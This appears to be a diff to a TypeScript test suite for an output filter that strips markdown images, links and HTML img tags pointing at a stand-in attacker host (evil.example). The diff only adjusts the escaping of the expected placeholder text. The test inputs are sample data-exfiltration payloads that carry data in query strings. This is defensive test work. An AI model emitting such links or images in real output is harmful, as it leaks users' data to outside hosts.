@@ -164,13 +164,13 @@ describe("output links on the renderer's view", () => {
     const cases: [string, string, string][] = [
       [
         "See ![c](HTTPS://EVIL.example/c.png?d=s) now",
-        "See \\(image removed\\) now",
+        "See (image removed) now",
         "exfiltration_image_removed",
       ],
       ["A [link](//evil.example/?d=s 'x') here", "A link here", "exfiltration_link_removed"],
-      ["![a][r]\n\n[r]: https://evil.example/x", "\\(image removed\\)\n\n", "exfiltration_image_removed"],
+      ["![a][r]\n\n[r]: https://evil.example/x", "(image removed)\n\n", "exfiltration_image_removed"],
       ['x <img src="//evil.example/p"> y', "x  y", "exfiltration_html_removed"],
-      ["go www.evil.example/?s now", "go \\(link removed\\) now", "exfiltration_link_removed"],
+      ["go www.evil.example/?s now", "go (link removed) now", "exfiltration_link_removed"],
     ];
     for (const [input, expected, flag] of cases) {
       const checked = checkOutput(input, options);
